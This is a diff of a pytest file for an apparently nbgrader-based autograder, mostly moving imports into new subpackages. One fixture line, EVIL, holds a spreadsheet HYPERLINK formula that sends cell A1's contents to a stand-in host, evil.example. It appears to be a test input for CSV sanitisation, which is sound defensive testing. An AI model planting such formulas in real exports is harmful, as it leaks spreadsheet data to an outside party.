@@ -13,7 +13,13 @@ import json
 
 import pytest
 
-from autograder import csvsafe, export, items, policy, report, signatures
+from autograder.reporting import csvsafe
+from autograder.reporting import export
+from autograder.reporting import items
+from autograder.reporting import policy
+from autograder.reporting import report
+from autograder.catalogue import signatures
+from autograder.quality import failure_signatures
 
 EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
 CELLS = {"01_arrays": {"dot": [("test_dot_values", 3.0), ("test_dot_errors", 2.0)],
@@ -33,7 +39,7 @@ SCORES = {   # student -> assignment -> {cell: score}
 def course(tmp_path, monkeypatch):
     from nbgrader.api import Gradebook
 
-    from autograder.pipeline import nbgrader_env
+    from autograder.stock_nbgrader import nbgrader_env
 
     monkeypatch.setenv("PATH", nbgrader_env()["PATH"])     # nbgrader runs alembic
 
@@ -194,7 +200,7 @@ def test_signatures_file_is_in_step_with_the_catalogue():
     assert signatures.stale(names) == [], \
         "autograder/catalogue/signatures.json is out of date: run check-tests for these"
     committed = items.load_signatures()
-    assert signatures.compute("01_arrays") == committed["01_arrays"]
+    assert failure_signatures.compute("01_arrays") == committed["01_arrays"]
     from autograder import catalogue
     for name in names:
         wrong = {f"{e.exercise}/wrong-{e.slug}" for e in catalogue.load(name)
